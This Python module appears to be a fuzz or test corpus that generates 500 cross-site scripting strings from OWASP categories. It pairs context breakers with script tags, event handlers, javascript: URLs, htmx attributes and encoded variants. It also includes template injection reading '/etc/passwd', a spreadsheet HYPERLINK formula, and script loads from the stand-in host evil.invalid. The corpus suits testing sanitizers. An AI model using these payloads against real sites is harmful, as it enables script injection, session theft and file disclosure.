"""500 ways to have a page run something: made by rule from what breaks out of a context and what then runs.

Each calls `alert`, loads something, or would change what the page does if any of it became markup. After the
categories of the OWASP cross-site scripting guides (contexts, events, encodings, mutation) and the attributes that htmx
reads.
"""

from __future__ import annotations

from itertools import product
from typing import Final

SIZE: Final = 500
_CALL: Final = "alert(document.domain)"
_BREAKERS: Final = (
    "",
    '"',
    "'",
    "`",
    ">",
    '">',
    "'>",
    "-->",
    "]]>",
    "</script>",
    "</style>",
    "</title>",
    "</textarea>",
    "</template>",
    "</bdi></span></td>",
    "\n\n",
)
_RUNNERS: Final = (
    f"<script>{_CALL}</script>",
    f"<script src=data:,{_CALL}></script>",
    "<script src=//evil.invalid/x.js></script>",
    f"<script type=module>import('data:text/javascript,{_CALL}')</script>",
    f"<img src=x onerror={_CALL}>",
    f"<img src=x onerror='{_CALL}'//",
    f"<svg onload={_CALL}>",
    f"<svg><script>{_CALL}</script></svg>",
    f"<svg><animate onbegin={_CALL} attributeName=x dur=1s>",
    f"<math><mtext><table><mglyph><style><!--</style><img src=x onerror={_CALL}>",
    f"<iframe srcdoc='<script>parent.{_CALL}</script>'></iframe>",
    f"<iframe src=javascript:{_CALL}></iframe>",
    f"<object data=javascript:{_CALL}></object>",
    f"<embed src=javascript:{_CALL}>",
    f"<details open ontoggle={_CALL}>x</details>",
    f"<input autofocus onfocus={_CALL}>",
    f"<select autofocus onfocus={_CALL}></select>",
    f"<video><source onerror={_CALL}></video>",
    f"<body onload={_CALL}>",
    f"<marquee onstart={_CALL}>x</marquee>",
    f"<a href=javascript:{_CALL} autofocus>x</a>",
    f"<form action=javascript:{_CALL}><button>x</button></form>",
    f"<button formaction=javascript:{_CALL}>x</button>",
    "<base href=//evil.invalid/>",
    f"<meta http-equiv=refresh content='0;url=javascript:{_CALL}'>",
    "<link rel=stylesheet href=//evil.invalid/x.css>",
    "<style>@import '//evil.invalid/x.css';*{display:none}</style>",
    "<div style='position:fixed;inset:0;background:url(//evil.invalid/x)'>x</div>",
    "<div hx-get=/runs hx-trigger=load hx-target=body>x</div>",
    f"<div hx-on:load={_CALL} data-hx-on:click={_CALL}>x</div>",
    "<div hx-post=/sign-out hx-trigger='load'>x</div>",
    f"onmouseover={_CALL} x=",
    f' onfocus={_CALL} autofocus tabindex=1 x="',
)
_ENCODED: Final = (
    f"&lt;script&gt;{_CALL}&lt;/script&gt;",
    f"&#60;script&#62;{_CALL}&#60;/script&#62;",
    f"%3Cscript%3E{_CALL}%3C/script%3E",
    f"\\u003cscript\\u003e{_CALL}\\u003c/script\\u003e",
    f"\\x3cimg src=x onerror={_CALL}\\x3e",
    f"＜script＞{_CALL}＜/script＞",
    f"<scr\x00ipt>{_CALL}</scr\x00ipt>",
    f"<\u200bscript>{_CALL}</script>",
    f"<ScRiPt\t>{_CALL}</sCrIpT\n>",
    f"<img\x0csrc=x\x0conerror={_CALL}>",
    f"\u202e<img src=x onerror={_CALL}>\u202c",
    f"<scr<script>ipt>{_CALL}</scr</script>ipt>",
    "{{ 7 * 7 }}{{ ''.__class__.__mro__ }}",
    "{% raw %}{% endraw %}{% include '/etc/passwd' %}",
    f"${{{_CALL}}}#{{{_CALL}}}<%= {_CALL} %>",
    f"javascript:{_CALL}",
    f"data:text/html,<script>{_CALL}</script>",
    '=HYPERLINK("//evil.invalid","x")',
)


def corpus() -> list[str]:
    """`SIZE` different texts; no two alike."""
    made = [breaker + runner for runner, breaker in product(_RUNNERS, _BREAKERS)]
    made += [breaker + text for text, breaker in product(_ENCODED, ('"', "'>", ""))]
    found = list(dict.fromkeys(made))
    step = len(found) / SIZE
    return [found[int(place * step)] for place in range(SIZE)]
